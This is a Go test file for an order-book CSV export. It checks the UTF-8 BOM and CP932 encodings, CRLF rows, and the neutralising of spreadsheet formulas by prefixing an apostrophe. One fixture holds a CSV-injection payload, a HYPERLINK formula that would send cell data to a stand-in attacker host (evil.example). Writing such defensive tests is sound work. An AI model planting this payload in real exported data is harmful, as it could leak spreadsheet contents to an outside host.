package orderbook

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"golang.org/x/text/encoding/japanese"

	"github.com/qoo10hook/qoo10hook/event"
)

// TestExportInertCells: the export is CSV a spreadsheet opens as text:
// UTF-8 with a BOM or CP932, CRLF, one row per line, and cells that
// would run as formulas start with an apostrophe.
func TestExportInertCells(t *testing.T) {
	t.Parallel()
	forStores(t, func(t *testing.T, e *env) {
		mails := threeMails()
		mails[1].order.Receiver = &event.Person{Name: `=HYPERLINK("http://evil.example/?"&A1,"株式会社①")`,
			Zip: "100-0001", Address: "@SUM(1+1)", Tel: "+81-3-1234-5678", Mobile: "-1+1"}
		mails[1].order.ShippingMessage = "\t=1+1"
		for i, m := range mails {
			e.ingest("x", string(rune('a'+i)), m, false)
		}

		var buf bytes.Buffer
		n, err := e.book.Export(t.Context(), &buf, Filter{}, UTF8)
		if err != nil {
			t.Fatal(err)
		}
		raw := buf.Bytes()
		if !bytes.HasPrefix(raw, []byte("\xef\xbb\xbf販売者ID,カート番号,")) || !bytes.Contains(raw, []byte("\r\n")) {
			t.Fatalf("utf-8 export starts %q", raw[:min(len(raw), 40)])
		}
		// The bytes a spreadsheet reads: the formula cell is quoted text.
		if !bytes.Contains(raw, []byte(`"'=HYPERLINK(""http://evil.example/?""&A1,""株式会社①"")"`)) {
			t.Errorf("formula cell not neutralised in %s", raw)
		}
		rows := readCSV(t, raw[3:])
		if n != 2 || len(rows) != 3 {
			t.Fatalf("%d rows written, %d read (header included), want 2 lines", n, len(rows))
		}
		col := map[string]int{}
		for i, h := range rows[0] {
			col[h] = i
		}
		first := rows[1]
		for h, want := range map[string]string{"住所": "'@SUM(1+1)", "受取人電話番号": "'+81-3-1234-5678",
			"受取人携帯電話番号": "'-1+1", "配送要請事項": "'\t=1+1", "郵便番号": "100-0001", "注文番号": "101", "状態": "paid",
			"販売者商品コード": "TS-001", "数量": "1", "配送方法": "宅配便"} {
			if got := first[col[h]]; got != want {
				t.Errorf("%s = %q, want %q", h, got, want)
			}
		}
		if got := rows[2][col["状態"]]; got != "cancelled" {
			t.Errorf("line 102 state %q, want cancelled", got)
		}
		for _, r := range rows[1:] {
			for i, c := range r {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("column %s: live formula %q", rows[0][i], c)
				}
			}
		}

		buf.Reset()
		if _, err := e.book.Export(t.Context(), &buf, Filter{State: "partially_cancelled"}, CP932); err != nil {
			t.Fatal(err)
		}
		sjis := buf.Bytes()
		// 販売者ID in CP932, and ① (a CP932 extension) kept.
		if !bytes.HasPrefix(sjis, []byte("\x94\xcc\x94\x84\x8e\xd2ID,")) || !bytes.Contains(sjis, []byte("\x87\x40")) {
			t.Errorf("cp932 export starts %q", sjis[:min(len(sjis), 20)])
		}
		utf, err := japanese.ShiftJIS.NewDecoder().Bytes(sjis)
		if err != nil {
			t.Fatal(err)
		}
		if back := readCSV(t, utf); len(back) != 3 || back[1][col["受取人名"]] != rows[1][col["受取人名"]] {
			t.Errorf("cp932 export reads back as %q", back)
		}

		if _, err := e.book.Export(t.Context(), &buf, Filter{}, "latin1"); err == nil {
			t.Error("an unknown encoding exported")
		}
	})
}

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}
